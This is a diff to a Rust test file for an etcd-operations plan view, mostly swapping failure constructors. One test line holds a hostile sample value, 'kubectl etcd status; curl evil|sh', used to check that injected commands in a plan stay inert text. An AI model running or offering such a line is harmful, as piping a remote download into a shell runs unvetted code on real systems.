@@ -1,6 +1,6 @@
 //! What a plan's view says.
 
-use etcd_operations::failure::{Answer, Failure, FailureKind};
+use etcd_operations::failure::{Answer, Failure};
 use etcd_operations::look::Changes;
 use etcd_operations::plan::make::{Loss, Revision};
 
@@ -54,7 +54,7 @@ fn what_could_not_be_counted_and_what_means_nothing_is_said() {
         preview.losses = vec![loss];
         losses(&preview)
     };
-    let failure = Failure::new(FailureKind::Corrupt, "m1: page 7 is damaged");
+    let failure = Failure::corrupt("m1: page 7 is damaged");
     let failed = lines(since(9, Some(Answer::Failed(failure))));
     assert_eq!(failed.len(), 2, "{failed:?}");
     assert!(failed[1].contains("could not be counted: m1: page 7"));
@@ -108,7 +108,7 @@ fn no_name_in_a_plan_becomes_a_line_or_a_command_of_its_own() {
         state.plan.stages[0].steps[0].node = name.to_owned();
         state.plan.other_hosts[0].node = name.to_owned();
         state.plan.other_hosts[0].after = vec!["kubectl etcd status; curl evil|sh".into()];
-        let failure = Failure::new(FailureKind::Other, name);
+        let failure = Failure::other(name);
         state.steps.insert(1, StepState::Failed { failure });
         let mut view = PlanView::kept(&state);
         view.left.push(name.to_owned());
